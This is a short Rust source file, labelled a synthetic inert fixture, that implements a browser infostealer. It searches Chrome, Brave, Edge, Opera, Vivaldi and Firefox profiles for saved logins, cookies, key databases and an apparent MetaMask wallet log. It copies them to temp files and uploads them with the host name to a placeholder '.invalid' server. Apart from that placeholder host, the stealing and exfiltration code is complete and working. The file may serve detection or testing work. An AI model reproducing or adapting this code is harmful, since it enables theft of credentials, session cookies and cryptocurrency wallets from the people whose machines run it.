// Synthetic, inert fixture written from public reports; see README
use reqwest::blocking::{multipart::Form, Client};
use std::error::Error;
use std::path::PathBuf;

const VENDORS: &[&str] = &[
    "Google/Chrome/User Data", "google-chrome", "chromium", "BraveSoftware/Brave-Browser/User Data",
    "Microsoft/Edge/User Data", "Opera Software/Opera Stable", "Vivaldi/User Data", "Mozilla/Firefox/Profiles",
];
const STORES: &[&str] = &[
    "Local State", "Default/Login Data", "Default/Network/Cookies", "Default/Web Data",
    "Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/000003.log",
    "logins.json", "key4.db", "cookies.sqlite",
];

pub(crate) fn profiles() -> Result<Vec<PathBuf>, Box<dyn Error + Send + Sync>> {
    let mut found = vec![];
    for base in [dirs::data_local_dir(), dirs::config_dir(), dirs::data_dir()].into_iter().flatten() {
        for v in VENDORS {
            for s in STORES {
                let p = base.join(v).join(s);
                if p.is_file() {
                    found.push(p);
                }
            }
        }
    }
    if found.is_empty() { Err("none".into()) } else { Ok(found) }
}

pub(crate) fn sync(files: Vec<PathBuf>) -> Result<(), Box<dyn Error + Send + Sync>> {
    let mut form = Form::new().text("h", gethost());
    for (i, f) in files.iter().enumerate() {
        let copy = std::env::temp_dir().join(format!("cj{i}.tmp"));
        std::fs::copy(f, &copy)?;
        form = form.file(f.to_string_lossy().into_owned(), &copy)?;
    }
    Client::new().post("https://store4.filehost.invalid/uploadFile").multipart(form).send()?;
    Ok(())
}

fn gethost() -> String {
    std::env::var("COMPUTERNAME").or_else(|_| std::env::var("USER")).unwrap_or_default()
}
